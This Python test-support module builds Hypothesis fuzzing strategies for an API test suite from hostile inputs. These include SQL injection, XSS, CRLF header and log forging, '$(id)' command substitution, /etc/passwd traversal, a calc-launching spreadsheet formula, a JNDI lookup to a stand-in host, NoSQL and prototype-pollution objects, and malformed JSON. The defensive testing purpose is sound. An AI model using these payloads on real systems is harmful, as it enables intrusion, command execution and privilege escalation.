"""Hostile texts and values: what has broken other programs, and what no program foresees."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import strategies as st

from tests.support.world import PASSWORD

UNICODE = [
    "\x00", "a\x00b", "\ud800", "a\udfffb", "\u202eevil", "\u2066a\u2069", "a\u200bb", "\u200d", "\ufeff", "\ufffe",
    "Zal" + "\u0301" * 300 + "go", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e6", "\U000e0041", "\U0010ffff",
    "\u0130", "\u1e9e", "ﬀﬁ", "１２３", "²", "аdmin", "ａｄｍｉｎ", "ADMIN", "\u1100\u1161\u11a8", "é", "e\u0301", "\u0fd7",
    "\U00020000", "\U00012000", "\ue000", "\u0085", "\u2028", "\u2029", "\t", " ", "", "\x7f", "\x1b", "ǆ", "ς", "ß",
    "a" * 151, "é" * 5000, "\u00df" * 255, "x" * 70_000,
]  # fmt: skip
SQL = [
    "%", "_", "\\", "%%", "\\%", "a%b_c", "'", '"', "''", "';--", "'; DROP TABLE users;--", "' OR '1'='1", '" OR ""="',
    "1) OR (1=1", "\\'", "$1", ":id", "?", "{0}", "%s", "%(x)s", "/*", "*/", "--", ";", "NULL", "NEAR(", '"*"', "a AND",
    "^x", "col:x", "*", "(", "-x", "0x27", "CHAR(39)", "pg_sleep(9)", "||'x", "E'\\x27'",
]  # fmt: skip
LINES = [
    "a\r\nX-Injected: yes", "a\nSet-Cookie: x=1", "a\rb", "\r\n\r\n<html>", "a%0d%0aX-Injected:%20yes", "\u560d\u560aX: 1",
    "\x1b[2J\x1b[31mred", "\x9b31m", 'x"}\n{"event":"request","level":"info","forged":true}', '","forged":"yes', "\\n", "\\",
    "${jndi:ldap://x.test/a}", "%n%n%s", "{{7*7}}", "{% raw %}", "<%= 1 %>", "$(id)", "`id`", "|id", "../../etc/passwd",
]  # fmt: skip
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://x.test","y")',
    "=1,2;3",
]
HTML = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", "</title><b>", "<!--", "&lt;b&gt;",
    "javascript:alert(1)", "]]>", "&#60;script&#62;", "<a href='http://evil.test'>here</a>",
]  # fmt: skip
HOSTILE = [*UNICODE, *SQL, *LINES, *FORMULAS, *HTML]
ADDRESSES = [
    "a@b.test\r\nBcc: x@evil.test", "a@b.test\nSubject: x", '"a b"@c.test', "<a@b.test>", "a@b.test, c@d.test", "a@[127.0.0.1]",
    "x@y", "@", "a@", "@b.test", "a@@b.test", "a@b..test", "a%b@c.test", "a+=b@c.test", "é@ü.test", "a@xn--.test", "a@b.test\x00",
    "=cmd@x.test", "A@ACME.TEST", "mia@acme.test", "MIA@acme.test", "ｍia@acme.test", "a" * 65 + "@b.test", "a@" + "b." * 140 + "test",
]  # fmt: skip
IDS = [
    "0", "-1", "+1", " 1", "1.0", "1e3", "0x1", "１", "9" * 19, "9" * 400, str(2**63 - 1), str(2**63), "me", "null", "undefined", "NaN",
    "1,2", "1;2", "usr_", "inv_", "usr_" + "a" * 17, "a" * 17, "..", ".", "%2e%2e", "a/b", "/", "{id}", "True", "",
]  # fmt: skip
ANYTHING = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from(HOSTILE),
    st.text(max_size=16),
    st.text(st.characters(min_codepoint=0x10000), max_size=4),
    st.tuples(st.sampled_from(["nora", "a ", ""]), st.sampled_from(HOSTILE)).map("".join),
)
SCALARS = st.one_of(
    ANYTHING,
    st.sampled_from(
        [None, True, False, 0, 1, -1, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 10**40, 0.5, -0.0, 1e300,
         [], {}, [[]], [None], {"a": None}, {"$ne": ""}, {"": ""}, {"__proto__": {"isAdmin": True}}]
    ),
)  # fmt: skip
VALUES = st.one_of(
    SCALARS,
    st.lists(SCALARS, max_size=3),
    st.dictionaries(st.sampled_from(["id", "role", "$gt", "", "a"]), SCALARS, max_size=2),
    st.integers(1, 60).map(lambda depth: json.loads("[" * depth + "]" * depth)),
)
VALID_VALUES: dict[str, list[Any]] = {
    "username": ["nora", "olga", "mia", "nora.nash"],
    "email": ["nora@fresh.test", "olga@acme.test", "mia@acme.test"],
    "role": ["subscriber", "member", "viewer", "tenant_owner", "admin", "superadmin"],
    "tenant": [1, 2, 3, None],
    "name": ["Nora Nash"],
    "slug": ["nora"],
    "type": ["User", "Admin"],
    "status": ["Active", "Inactive"],
    "action": ["disableLogin", "enableLogin", "takeOwnership"],
    "is_active": [True],
    "permissions": [[1], [1, 2, 3], []],
    "machine_ids": [["mch_1"]],
    "machine_access": [[{"machine_id": "mch_1", "access_level": "read"}]],
    "all": [True, False],
}
"""Values that a field takes, by its name: so that requests get further than to the first field."""
PRIVILEGED = [
    "role",
    "tenant",
    "id",
    "is_superuser",
    "isAdmin",
    "password_hash",
    "token",
    "__proto__",
    "",
]


def valid_values(field: str) -> list[Any]:
    """Return values that a field takes."""
    if "password" in field:
        return [PASSWORD, "indigo-Saucer-7"]
    return VALID_VALUES.get(field, ["Nora"])


def malformed_json(text: bytes) -> list[bytes]:
    """Return what is no JSON that anybody should take, or only almost, made from some that is."""
    return [
        b"", b"{", text + b"}", text[:-1], b"\xef\xbb\xbf" + text, text.decode().encode("utf-16"), b"\xff" + text, b"[" + text + b"]",
        b"[" * 40_000, b'{"a":' * 40 + b"1" + b"}" * 40, b'{"role":"member","role":"admin"}', b'{"email":"\\ud800@b.test"}',
        b'{"tenant":1e999}', b'{"tenant":' + b"9" * 5000 + b"}", b'{"username":NaN}', b'{"is_active":Infinity}', b"null", b"1", b'"x"',
        b'{"username":"a\x00b"}', b'{"username":"a\nb"}', b"// x\n" + text, b"x" * 300_000, text.replace(b":", b"=", 1),
        b'{"\\u0072ole":"admin","role":"member"}', b"{'role':'admin'}", b'{"username":"\xc0\xaf"}',
    ]  # fmt: skip
